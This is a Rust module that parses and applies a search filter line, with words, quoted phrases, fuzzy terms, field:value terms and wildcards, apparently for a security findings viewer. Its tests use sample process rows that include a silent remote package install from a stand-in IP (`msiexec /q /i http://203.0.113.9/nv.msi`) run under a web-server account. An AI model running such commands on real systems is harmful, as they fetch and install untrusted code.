//! The filter line: which rows stay. The only file that names `fuzzy_matcher`.
//!
//! Terms are split at blanks and all required. `word` stands anywhere in the row, case aside;
//! `"two words"` quotes (a quote inside is written twice, a backslash is itself, as Windows paths
//! need it); `~word` is fuzzy; `field:value` looks in one field, `field:"value"` is its whole
//! value; `*` in a field's value is any run of characters, and the value then is the whole one;
//! `-` before a term excludes. A name before the colon that is no field is part of a word, so that
//! `http://…` and `C:\…` can be typed as they are.

use super::fields::Rows;
use fuzzy_matcher::FuzzyMatcher;
use fuzzy_matcher::skim::SkimMatcherV2;

/// How far apart the letters of a fuzzy word may stand, as a multiple of its length. As a mere
/// subsequence "teams" is in 1,416 of 1,930 real process creations of which none holds it.
const FUZZY_SPREAD: usize = 2;

/// A parsed filter line.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Filter {
    terms: Vec<Term>,
}

/// One condition.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Term {
    /// As typed.
    text: String,
    exclude: bool,
    test: Test,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Test {
    /// Lower-cased.
    Word(String),
    Fuzzy(Vec<String>),
    Field(String, Pattern),
}

/// What a field's value must be like; all lower-cased.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Pattern {
    Holds(String),
    Whole(String),
    Wild(Vec<char>),
}

impl Term {
    /// A term that keeps, or with `exclude` drops, the rows with that whole value in a field.
    pub fn of_value(field: &str, value: &str, exclude: bool) -> Self {
        let sign = if exclude { "-" } else { "" };
        Self {
            text: format!("{sign}{field}:\"{}\"", value.replace('"', "\"\"")),
            exclude,
            test: Test::Field(field.to_owned(), Pattern::Whole(value.to_lowercase())),
        }
    }

    /// As it stands on the filter line.
    pub fn text(&self) -> &str {
        &self.text
    }

    fn parse(text: String, rows: Rows<'_>) -> Option<Self> {
        let (exclude, body) = match text.strip_prefix('-') {
            Some(rest) => (true, rest),
            None => (false, text.as_str()),
        };
        let condition = if let Some(word) = body.strip_prefix('~') {
            let parts = unquote(word).0.to_lowercase();
            let parts: Vec<String> = parts.split_whitespace().map(str::to_owned).collect();
            (!parts.is_empty()).then_some(Test::Fuzzy(parts))
        } else if let Some((field, value)) = field_of(body, rows) {
            let (value, quoted) = unquote(value);
            let value = value.to_lowercase();
            // `user:` while it is being typed asks for nothing yet.
            (quoted || !value.is_empty()).then(|| Test::Field(field, pattern(value, quoted)))
        } else {
            let word = unquote(body).0.to_lowercase();
            (!word.is_empty()).then_some(Test::Word(word))
        }?;
        Some(Self {
            exclude,
            test: condition,
            text,
        })
    }

    fn meets(&self, row: &FilteredRow<'_>, fuzzy: &SkimMatcherV2) -> bool {
        let found = match &self.test {
            Test::Word(word) => row.text.contains(word.as_str()),
            Test::Fuzzy(parts) => parts.iter().all(|part| is_close(fuzzy, row.text, part)),
            Test::Field(field, pattern) => {
                let values = row.rows.values(row.row, field);
                let mut values = values.iter().map(|value| value.to_lowercase());
                values.any(|value| {
                    pattern.fits(&value) || (field == "role" && pattern.fits(first_word(&value)))
                })
            }
        };
        found != self.exclude
    }
}

/// A role is `package` or `property SERVER`: its first word is enough.
fn first_word(role: &str) -> &str {
    role.split(' ').next().unwrap_or(role)
}

fn is_close(fuzzy: &SkimMatcherV2, text: &str, part: &str) -> bool {
    let most = FUZZY_SPREAD * part.chars().count();
    let close = |places: &[usize]| match (places.first(), places.last()) {
        (Some(first), Some(last)) => last - first < most,
        _ => false,
    };
    // Value by value: letters gathered from several fields are no match.
    text.lines()
        .filter_map(|line| fuzzy.fuzzy_indices(line, part))
        .any(|(_, places)| close(&places))
}

fn field_of<'a>(body: &'a str, rows: Rows<'_>) -> Option<(String, &'a str)> {
    let (name, value) = body.split_once(':')?;
    Some((rows.field(name)?, value))
}

fn pattern(value: String, quoted: bool) -> Pattern {
    if quoted {
        Pattern::Whole(value)
    } else if value.contains('*') {
        Pattern::Wild(value.chars().collect())
    } else {
        Pattern::Holds(value)
    }
}

/// Without its quotes, and whether it had any. A quote that is not closed yet counts as closed.
fn unquote(text: &str) -> (String, bool) {
    let Some(inner) = text.strip_prefix('"') else {
        return (text.to_owned(), false);
    };
    let closed = inner.len() - inner.trim_end_matches('"').len();
    let inner = if closed % 2 == 1 {
        inner.strip_suffix('"').unwrap_or(inner)
    } else {
        inner
    };
    (inner.replace("\"\"", "\""), true)
}

impl Pattern {
    fn fits(&self, value: &str) -> bool {
        match self {
            Self::Holds(part) => value.contains(part.as_str()),
            Self::Whole(whole) => value == whole,
            Self::Wild(wild) => wild_fits(wild, value),
        }
    }
}

/// `*` is any run of characters. Keeps only the last star to go back to, so it takes at most
/// length times length steps.
fn wild_fits(pattern: &[char], value: &str) -> bool {
    let value: Vec<char> = value.chars().collect();
    let (mut p, mut v, mut star) = (0, 0, None);
    while v < value.len() {
        match pattern.get(p) {
            Some('*') => {
                star = Some((p, v));
                p += 1;
            }
            Some(c) if value.get(v) == Some(c) => {
                p += 1;
                v += 1;
            }
            _ => match star {
                Some((at, from)) => {
                    p = at + 1;
                    v = from + 1;
                    star = Some((at, v));
                }
                None => return false,
            },
        }
    }
    pattern.iter().skip(p).all(|c| *c == '*')
}

struct FilteredRow<'a> {
    rows: Rows<'a>,
    row: usize,
    text: &'a str,
}

impl Filter {
    /// Reads a filter line. Every text is one: what is half typed asks for less.
    pub fn parse(text: &str, rows: Rows<'_>) -> Self {
        let terms = split(text).into_iter();
        Self {
            terms: terms.filter_map(|term| Term::parse(term, rows)).collect(),
        }
    }

    /// The line that reads as this filter.
    pub fn text(&self) -> String {
        let texts: Vec<&str> = self.terms.iter().map(Term::text).collect();
        texts.join(" ")
    }

    /// Whether every row stays.
    pub fn is_empty(&self) -> bool {
        self.terms.is_empty()
    }

    /// The conditions.
    pub fn terms(&self) -> &[Term] {
        &self.terms
    }

    /// Adds a condition, or removes it when it is there already.
    pub fn toggle(&mut self, term: Term) {
        let before = self.terms.len();
        self.terms.retain(|t| t.text != term.text);
        if self.terms.len() == before {
            self.terms.push(term);
        }
    }

    /// Removes the last condition.
    pub fn pop(&mut self) -> Option<Term> {
        self.terms.pop()
    }

    /// The rows that stay, in their order; `texts` has [`Rows::searchable`] of each.
    pub fn keep(&self, rows: Rows<'_>, texts: &[String]) -> Vec<usize> {
        let fuzzy = SkimMatcherV2::default().ignore_case();
        let stays = |row: &FilteredRow<'_>| self.terms.iter().all(|term| term.meets(row, &fuzzy));
        texts
            .iter()
            .enumerate()
            .map(|(row, text)| FilteredRow { rows, row, text })
            .filter(stays)
            .map(|row| row.row)
            .collect()
    }
}

/// Cuts at blanks outside of quotes. A quote opens only where a value begins, so that an inch
/// sign or an apostrophe inside a word is itself.
fn split(text: &str) -> Vec<String> {
    let mut terms = Vec::new();
    let mut term = String::new();
    let mut quoted = false;
    for c in text.chars() {
        let begins = term.is_empty() || term.ends_with([':', '-', '~']);
        match c {
            '"' if !quoted && begins => {
                quoted = true;
                term.push(c);
            }
            '"' if quoted => {
                term.push(c);
                // A doubled quote closes and opens again; both marks stay in the text.
                quoted = false;
            }
            '"' if term.ends_with('"') => {
                quoted = true;
                term.push(c);
            }
            c if c.is_whitespace() && !quoted => {
                if !term.is_empty() {
                    terms.push(std::mem::take(&mut term));
                }
            }
            c => term.push(c),
        }
    }
    if !term.is_empty() {
        terms.push(term);
    }
    terms
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Value;
    use crate::search::{Row, Table};
    use crate::store::Findings;
    use proptest::prelude::*;

    fn findings(rows: &[[&str; 3]]) -> Findings {
        let table = Table {
            columns: ["user", "dest", "process"].map(Into::into).to_vec(),
            rows: rows
                .iter()
                .map(|cells| Row {
                    cells: cells.map(|c| Some(Value::text(c))).to_vec(),
                    events: vec![],
                })
                .collect(),
        };
        Findings::new(table, vec![])
    }

    fn kept(filter: &str, findings: &Findings) -> Vec<usize> {
        let rows = Rows {
            findings,
            sources: &[],
        };
        let texts: Vec<String> = (0..findings.findings.len())
            .map(|row| rows.searchable(row))
            .collect();
        Filter::parse(filter, rows).keep(rows, &texts)
    }

    fn sample() -> Findings {
        findings(&[
            [
                "iis-app",
                "web-02.corp.example",
                r"msiexec /q /i http://203.0.113.9/nv.msi",
            ],
            [
                "SYSTEM",
                "ws-017",
                r#""C:\Program Files\x" /i https://a.example/b.msi"#,
            ],
            ["iis", "web-03", "msiexec SERVER=https://c.example"],
        ])
    }

    #[test]
    fn the_grammar() {
        let sample = sample();
        for (filter, rows) in [
            ("", &[0, 1, 2][..]),
            ("   ", &[0, 1, 2]),
            ("MSIEXEC", &[0, 2]),
            ("msiexec nv", &[0]),
            ("-msiexec", &[1]),
            ("http://", &[0]),
            (r"C:\Program", &[1]),
            ("\"program files\"", &[1]),
            ("\"program files", &[1]),
            ("user:iis", &[0, 2]),
            ("user:\"iis\"", &[2]),
            ("user:iis*", &[0, 2]),
            ("user:*app", &[0]),
            ("user:", &[0, 1, 2]),
            ("host:web -user:iis-app", &[2]),
            ("dest:*.corp.*", &[0]),
            ("-host:*", &[]),
            ("~msixec", &[0, 2]),
            ("~pgfiles", &[1]),
            ("~teams", &[]),
            ("~", &[0, 1, 2]),
            ("-", &[0, 1, 2]),
            ("server=https", &[2]),
            ("command_line:*nv.msi", &[0]),
        ] {
            assert_eq!(kept(filter, &sample), rows, "{filter}");
        }
    }

    #[test]
    fn a_term_that_is_set_again_goes() {
        let sample = sample();
        let rows = Rows {
            findings: &sample,
            sources: &[],
        };
        let mut filter = Filter::parse("msi", rows);
        filter.toggle(Term::of_value("user", "iis-app", false));
        assert_eq!(filter.text(), "msi user:\"iis-app\"");
        filter.toggle(Term::of_value("user", "iis-app", false));
        assert_eq!(filter.text(), "msi");
        assert!(filter.pop().is_some() && filter.is_empty());
    }

    proptest! {
        #[test]
        fn a_value_is_found_again_by_its_own_term(value in r#"[a"\\ :*~-]{0,8}"#, exclude: bool) {
            let findings = findings(&[[&value, "d", "p"], ["another", "d", "p"]]);
            let term = Term::of_value("user", &value, exclude);
            let rows = kept(term.text(), &findings);
            prop_assert_eq!(rows, vec![usize::from(exclude)]);
        }

        #[test]
        fn any_text_is_a_filter(text in "\\PC{0,30}") {
            kept(&text, &sample());
        }

        #[test]
        fn a_parsed_line_reads_as_itself(text in r#"[ab" :*~-]{0,16}"#) {
            let sample = sample();
            let rows = Rows { findings: &sample, sources: &[] };
            let filter = Filter::parse(&text, rows);
            prop_assert_eq!(&Filter::parse(&filter.text(), rows), &filter);
        }
    }
}
